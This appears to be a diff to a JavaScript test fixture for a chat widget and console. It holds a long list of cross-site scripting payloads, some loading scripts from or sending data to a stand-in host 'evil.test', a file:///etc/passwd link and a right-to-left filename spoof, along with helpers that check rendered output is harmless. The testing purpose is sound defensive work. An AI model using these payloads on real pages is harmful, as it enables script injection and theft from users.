@@ -1,11 +1,13 @@
-// S48: texts that would do something if they were taken for markup. One list for the widget and the console.
-// Not here: how they are delivered, and where they are looked at (markup.mjs).
+// S48: texts that would do something if they were taken for markup, one list for the widget and the console; and what is
+// looked at wherever they are shown.
+// Not here: how they are delivered (markup.mjs, parrot.mjs).
+import assert from "node:assert/strict";
 
 /** What a page, a mail or a chat would run or fetch. As CommonMark it is the same text: raw HTML is nobody's to use. */
 const HTML = [
   // script
   "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<script\t>alert(1)</script >",
-  "<ſcript>alert(1)</ſcript>", "<script>alert`1`</script>", "<script type=module>import('//evil.test/x.js')</script>", "<scr<script>ipt>alert(1)</script>",
+  "<ſcript>alert(1)</ſcript>", "<script>alert?.(1)</script>", "<script type=module>import('//evil.test/x.js')</script>", "<scr<script>ipt>alert(1)</script>",
   "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
   "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
   // pictures, sound, film
@@ -23,14 +25,14 @@ const HTML = [
   "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
   "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
   "<!--x--!><img src=x onerror=alert(1)>", "<xmp><svg/onload=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
-  "<template><script>alert(1)</script></template>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<a title='</a><img src=x onerror=alert(1)>'>x</a>",
+  "<template><script>alert(1)</script></template>", "<listing><img src=x onerror=alert(1)></listing>", "<a title='</a><img src=x onerror=alert(1)>'>x</a>",
   "<select><template shadowrootmode=open><script>alert(1)</script></template></select>", "<table><td><form><img src=x onerror=alert(1)></table>",
   // frames and plug-ins
   "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
   "<frameset onload=alert(1)>", "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=//evil.test/x.swf>",
   "<embed src=javascript:alert(1)>", "<applet code=x onerror=alert(1)>", "<portal src=//evil.test onload=alert(1)>",
   // addresses
-  "<a href='javascript:alert(1)'>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "<a href=' &#1;javascript:alert(1)'>x</a>",
+  "<a href='javascript:alert(1)'>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "<a href=' &#9;javascript:alert(1)'>x</a>",
   "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<area href=javascript:alert(1)>",
   "<base href=//evil.test/>", "<form action=//evil.test><button>x", "<form><button formaction=javascript:alert(1)>x", "<table background='javascript:alert(1)'>",
   "<meta http-equiv=refresh content='0;url=//evil.test'>", "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=prefetch href=//evil.test/p>",
@@ -56,7 +58,7 @@ const MARKDOWN = [
   ["![eleven](data:image/svg+xml,<svg/onload=alert(1)>)", "eleven"], ["[![twelve](https://evil.test/x.png)](javascript:alert(1))", "twelve"],
   ["`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"], ["&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"],
   ["&#60;img src=x onerror=alert(1)&#62;", "<img src=x onerror=alert(1)>"], ["**<b onclick=alert(1)>thirteen</b>**", "<b onclick=alert(1)>thirteen</b>"],
-  ["[fourteen](file:///etc/passwd)", "fourteen"], ["[fifteen](blob:https://evil.test/x)", "fifteen"], ["![x](https://evil.test/?c=sixteen \"<img src=x onerror=alert(1)>\")", "x"],
+  ["[fourteen](file:///etc/passwd)", "fourteen"], ["[fifteen](blob:https://evil.test/x)", "fifteen"], ["\u202egnp.exe", "gnp.exe"], ["![x](https://evil.test/?c=sixteen \"<img src=x onerror=alert(1)>\")", "x"],
 ];
 
 /** `text`: as a person types it, and as it has to be shown then. `read`: what has to be read of it where it came as CommonMark. */
@@ -68,5 +70,39 @@ if (new Set(VECTORS.map(({ text }) => text)).size !== VECTORS.length) throw new 
 /** Names for files and people, where no path can be: those without a slash or a quote, and short enough to be kept. */
 export const NAMES = HTML.filter((text) => !/[/\\"\t]/.test(text) && text.length <= 60);
 
-/** Without what lines, spaces and joiners are made of: those may be put where a platform needs them. */
-export const squeezed = (text) => text.replace(/[\s\u00a0\u200b\u2060\ufeff]+/g, "");
+const NAMED = { "&lt;": "<", "&gt;": ">", "&amp;": "&" };
+
+/** Entities as what they stand for: where HTML is text, CommonMark reads them. */
+const decoded = (text) =>
+  text.replace(/&#(\d+);/g, (_, number) => String.fromCodePoint(Number(number))).replace(/&(?:lt|gt|amp);/g, (entity) => NAMED[entity]);
+
+/** Without what lines, spaces, joiners and turns are made of: those may be put, or taken out, where somebody needs it. */
+export const squeezed = (text) => text.replace(/[\s\u00a0\u200b\u2060\ufeff\u200e\u200f\u202a-\u202e\u2066-\u2069]+/g, "");
+
+/** As it is read, however it is broken into lines. */
+export const same = (text) => squeezed(decoded(text));
+
+/** Everything that left for elsewhere. */
+export function watch(context) {
+  const outside = [];
+  context.on("request", (request) => {
+    const { hostname, protocol } = new URL(request.url());
+    if (/^(http|ws)/.test(protocol) && !["127.0.0.1", "localhost"].includes(hostname)) outside.push(request.url());
+  });
+  return outside;
+}
+
+/** What a message may be built of. */
+const ELEMENTS = ["p", "br", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr", "table", "thead", "tr", "td", "span", "i"];
+
+/** Built of allowed elements alone, none of which does anything; links lead to the web, and say where to. */
+export async function harmless(widget) {
+  const found = await widget.panel.evaluate((panel) =>
+    [...panel.querySelectorAll(".bubble *, .files *, header *, .row *, .state *")].map((e) => [e.localName, [...e.attributes].map(({ name }) => name), e.protocol, e.title === e.href]));
+  const inMessages = await widget.panel.evaluate((panel) => [...new Set([...panel.querySelectorAll(".bubble *")].map((e) => e.localName))]);
+  assert.deepEqual(inMessages.filter((name) => !ELEMENTS.includes(name)), []);
+  assert.deepEqual(found.filter(([, names]) => names.some((name) => /^on|^srcdoc|^formaction|^style/.test(name))), []);
+  assert.deepEqual(found.filter(([name, , protocol]) => name === "a" && !["http:", "https:", "mailto:"].includes(protocol)), []);
+  const links = await widget.panel.evaluate((panel) => [...panel.querySelectorAll(".bubble a")].map((a) => [a.title, a.getAttribute("href")]));
+  assert.deepEqual(links.filter(([title, href]) => title !== href), [], "a link says where it leads");
+}
